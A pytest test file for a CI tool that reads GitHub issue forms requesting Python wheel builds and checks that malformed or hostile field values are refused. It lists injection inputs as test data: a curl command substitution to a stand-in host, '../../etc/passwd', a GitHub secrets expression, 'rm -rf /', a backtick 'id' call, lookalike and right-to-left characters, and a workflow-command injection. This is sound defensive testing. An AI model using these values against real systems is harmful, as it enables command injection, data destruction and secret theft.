"""The text of an issue form: what is read from it, and what is refused of hostile text."""

from __future__ import annotations

from pathlib import Path

import pytest

from ci_tools.errors import RejectedInput
from ci_tools.formats import yaml_file
from ci_tools.recipes.answer import EMPTY, HEADINGS, read_form
from ci_tools.recipes.choice import RecipeChoice

TEMPLATE = Path(__file__).parents[3] / ".github" / "ISSUE_TEMPLATE" / "wheel.yml"
ASKED = {
    "Package": "SageAttention",
    "Version": "2.2.0",
    "Python": "3.13, 3.14t; 3.13",
    "GPU architectures": "8.9 12.0+PTX",
}


def body(**fields: str) -> str:
    """Return what GitHub makes of a filled form; an underscore stands for a blank of a heading."""
    given = {name.replace("_", " "): value for name, value in fields.items()}
    return "\n\n".join(f"### {name}\n\n{given.get(name, EMPTY)}" for name in HEADINGS)


def test_the_headings_are_those_of_the_form() -> None:
    form = yaml_file.read(TEMPLATE, TEMPLATE.name).value
    assert isinstance(form, dict)
    assert tuple(field["attributes"]["label"] for field in form["body"]) == HEADINGS  # type: ignore[index,call-overload,union-attr]


def test_a_form_is_a_recipe_and_a_choice() -> None:
    wish = read_form(body(**ASKED).replace("\n", "\r\n"))
    assert wish == ("sageattention", RecipeChoice("2.2.0", ("3.13", "3.14t"), (), (), ("8.9", "12.0+PTX")))


@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("Package", "$(curl evil.example)"),
        ("Package", "../../etc/passwd"),
        ("Package", "${{ secrets.GITHUB_TOKEN }}"),
        ("Package", "@octo"),
        ("Package", "sage\u200battention"),  # a space of no width
        ("Package", "\u202enoitnettaegas"),  # shown from right to left
        ("Package", "s\u0430geattention"),  # a Cyrillic letter
        ("Package", EMPTY),
        ("Package", "a" * 101),
        ("Version", "1.0+local; rm -rf /"),
        ("Version", "-1"),
        ("Version", "1.0\n1.1"),
        ("Python", "3.13`id`"),
        ("Python", " ".join(f"3.{number}" for number in range(9))),
        ("Python", "\uff13.13"),  # a digit that is not ASCII
        ("PyTorch", "--help"),
        ("CUDA", "13"),
        ("GPU_architectures", "native"),
        ("GPU_architectures", "8.9\n::set-output name=fate::build"),
    ],
)
def test_hostile_values_are_refused_and_little_of_them_repeated(field: str, text: str) -> None:
    with pytest.raises(RejectedInput) as caught:
        read_form(body(**{"Package": "demo", field: text}))
    (problem,) = caught.value.problems
    assert problem.where == field.replace("_", " ")
    assert len(problem.what) < 200
    assert problem.what.isprintable()


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("", id="empty"),
        pytest.param("I need a wheel", id="prose"),
        pytest.param(f"@octo\n{body(Package='demo')}", id="text-before"),
        pytest.param(body(Package="demo") + "\n\n### Package\n\nother", id="a-heading-twice"),
        pytest.param(body(Package="demo\n\n### Version\n\n9"), id="a-heading-in-a-field"),
        pytest.param(body(Package="demo") + " " * 10_000, id="too-long"),
    ],
)
def test_what_is_not_the_form_is_refused(text: str) -> None:
    with pytest.raises(RejectedInput):
        read_form(text)


def test_every_mistake_is_said() -> None:
    with pytest.raises(RejectedInput) as caught:
        read_form(body(Package="demo", Python="three", CUDA="x"))
    assert [problem.where for problem in caught.value.problems] == ["Python", "CUDA"]
